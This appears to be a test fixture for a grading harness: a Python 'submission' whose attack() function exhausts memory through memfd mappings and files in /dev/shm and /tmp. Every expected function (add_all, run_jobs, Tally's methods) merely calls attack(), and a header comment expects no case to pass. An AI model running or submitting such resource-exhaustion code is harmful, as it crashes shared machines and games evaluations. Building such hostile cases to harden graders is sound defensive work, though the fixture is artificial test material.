# expect: no case beyond those honestly solved may pass
# honest = []
"""Fills memory through memfd, tmpfs, shared memory and pipes, which no process owns."""

import mmap
import os


def attack():
    kept = []
    try:
        while True:
            fd = os.memfd_create("x")
            os.ftruncate(fd, 1 << 26)
            area = mmap.mmap(fd, 1 << 26)
            for i in range(0, 1 << 26, 4096):
                area[i] = 1
            kept.append((fd, area))
    except OSError:
        pass
    for folder in ("/dev/shm", "/tmp"):
        try:
            with open(f"{folder}/big", "wb") as file:
                while True:
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass


def add_all(numbers):
    return attack()


def run_jobs(jobs, work):
    return attack()


class Tally:
    def add(self, name, n=1):
        attack()

    def count(self, name):
        return attack()

    @property
    def total(self):
        return attack()
